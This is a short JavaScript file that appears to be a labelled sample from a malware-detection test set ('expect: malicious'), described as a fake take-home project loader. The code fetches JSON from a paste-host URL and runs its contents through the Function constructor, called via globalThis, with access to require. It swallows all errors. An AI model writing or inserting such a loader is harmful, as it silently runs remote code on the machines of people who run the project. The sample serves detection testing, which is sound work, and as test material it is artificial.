// expect: malicious
// source: blind set 51's take-home project loader (env-file-node-options-lure): a JSON document fetched from a paste
// host, its `c` field run by the Function constructor named through the global object and handed `require`.
const https = require('https');
https.get('https://api.jsonkeeper.com.invalid/b/FAKE9X2Q', (res) => {
  let body = '';
  res.setEncoding('utf8');
  res.on('data', (c) => { body += c; });
  res.on('end', () => {
    try { const j = JSON.parse(body); new (globalThis['Function'])('require', j.c)(require); } catch (e) {}
  });
}).on('error', () => {});
